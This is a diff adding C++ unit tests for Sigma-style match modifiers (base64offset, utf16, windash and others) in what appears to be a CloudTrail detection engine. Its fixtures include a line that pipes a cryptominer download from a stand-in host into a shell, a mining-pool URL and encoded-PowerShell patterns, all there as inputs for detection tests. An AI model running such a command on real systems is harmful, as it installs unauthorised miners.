@@ -6,6 +6,7 @@
 #include "rules/match.hpp"
 
 #include "facts/event_builder.hpp"
+#include "rules/value_transforms.hpp"
 #include "trailwatch/error.hpp"
 
 #include "temp_dir.hpp"
@@ -605,6 +606,75 @@ TEST(SigmaHQ, EveryAwsCloudTrailRuleLoads) {
   const auto errors = lint_rules({rules.string()}, &set);
   EXPECT_TRUE(errors.empty()) << errors.size() << " errors, first: " << errors.front();
   EXPECT_GE(set.rules.size(), 57u);
+}
+
+// Issue 10: cased, neq and the value-transforming modifiers (base64, base64offset, utf16le/be,
+// utf16, wide, windash), applied in the order written.
+
+TEST(MatchModifiers, CasedComparesCase) {
+  EXPECT_TRUE(matches(load_selection("userAgent|cased: 'aws-cli*'"), with_agent("aws-cli/2")));
+  EXPECT_FALSE(matches(load_selection("userAgent|cased: 'AWS-CLI*'"), with_agent("aws-cli/2")));
+  EXPECT_TRUE(matches(load_selection("userAgent: 'AWS-CLI*'"), with_agent("aws-cli/2")));
+}
+
+TEST(MatchModifiers, NeqHoldsWhenNoValueEquals) {
+  const RuleSet set = load_selection("userAgent|neq: 'console.amazonaws.com'");
+  EXPECT_TRUE(matches(set, with_agent("aws-cli/2")));
+  EXPECT_FALSE(matches(set, with_agent("console.amazonaws.com")));
+  EXPECT_TRUE(matches(set, named("RunInstances"))); // absent: not equal
+}
+
+TEST(MatchModifiers, Base64AndBase64offset) {
+  EXPECT_EQ(base64_encode("hello"), "aGVsbG8=");
+  EXPECT_EQ(base64_encode(""), "");
+  EXPECT_EQ(base64_encode("ab"), "YWI=");
+  // The value as it sits at each of the three offsets inside a longer base64 text.
+  const Event e = from_json(R"({"eventName":"RunInstances","requestParameters":{"userData":")" +
+                            base64_encode("#!/bin/bash\ncurl http://x/xmrig | sh") + R"("}})");
+  EXPECT_TRUE(
+      matches(load_selection("requestParameters.userData|base64offset|contains: xmrig"), e));
+  EXPECT_FALSE(
+      matches(load_selection("requestParameters.userData|base64offset|contains: miner"), e));
+  for (const char* prefix : {"", "a", "ab", "abc"}) {
+    SCOPED_TRACE(prefix);
+    const Event shifted =
+        from_json(R"({"eventName":"X","requestParameters":{"d":")" +
+                  base64_encode(std::string(prefix) + "stratum+tcp://pool") + R"("}})");
+    EXPECT_TRUE(
+        matches(load_selection("requestParameters.d|base64offset|contains: stratum"), shifted));
+  }
+  const Event whole = from_json(R"({"eventName":"X","requestParameters":{"d":"aGVsbG8="}})");
+  EXPECT_TRUE(matches(load_selection("requestParameters.d|base64: hello"), whole));
+}
+
+TEST(MatchModifiers, Utf16AndWideThenBase64) {
+  // "hi" in UTF-16LE is 68 00 69 00: base64 "aABpAA==".
+  const Event e = from_json(R"({"eventName":"X","requestParameters":{"d":"aABpAA=="}})");
+  EXPECT_TRUE(matches(load_selection("requestParameters.d|wide|base64: hi"), e));
+  EXPECT_TRUE(matches(load_selection("requestParameters.d|utf16le|base64: hi"), e));
+  EXPECT_FALSE(matches(load_selection("requestParameters.d|utf16be|base64: hi"), e));
+  const Event be = from_json(R"({"eventName":"X","requestParameters":{"d":"AGgAaQ=="}})");
+  EXPECT_TRUE(matches(load_selection("requestParameters.d|utf16be|base64: hi"), be));
+  const Event bom = from_json(R"({"eventName":"X","requestParameters":{"d":"//5oAGkA"}})");
+  EXPECT_TRUE(matches(load_selection("requestParameters.d|utf16|base64: hi"), bom));
+}
+
+TEST(MatchModifiers, WindashAcceptsEveryDash) {
+  const RuleSet set = load_selection("userAgent|windash|contains: ' -enc '");
+  EXPECT_TRUE(matches(set, with_agent("powershell -enc AAA")));
+  EXPECT_TRUE(matches(set, with_agent("powershell /enc AAA")));
+  EXPECT_TRUE(matches(set, with_agent("powershell \u2013enc AAA")));
+  EXPECT_TRUE(matches(set, with_agent("powershell \u2014enc AAA")));
+  EXPECT_FALSE(matches(set, with_agent("powershell enc AAA")));
+}
+
+TEST(MatchModifiers, AllNeedsEveryValueNotEveryVariant) {
+  const Event e = from_json(R"({"eventName":"X","requestParameters":{"d":")" +
+                            base64_encode("one two three") + R"("}})");
+  EXPECT_TRUE(
+      matches(load_selection("requestParameters.d|base64offset|contains|all: [one, three]"), e));
+  EXPECT_FALSE(
+      matches(load_selection("requestParameters.d|base64offset|contains|all: [one, four]"), e));
 }
 
 } // namespace
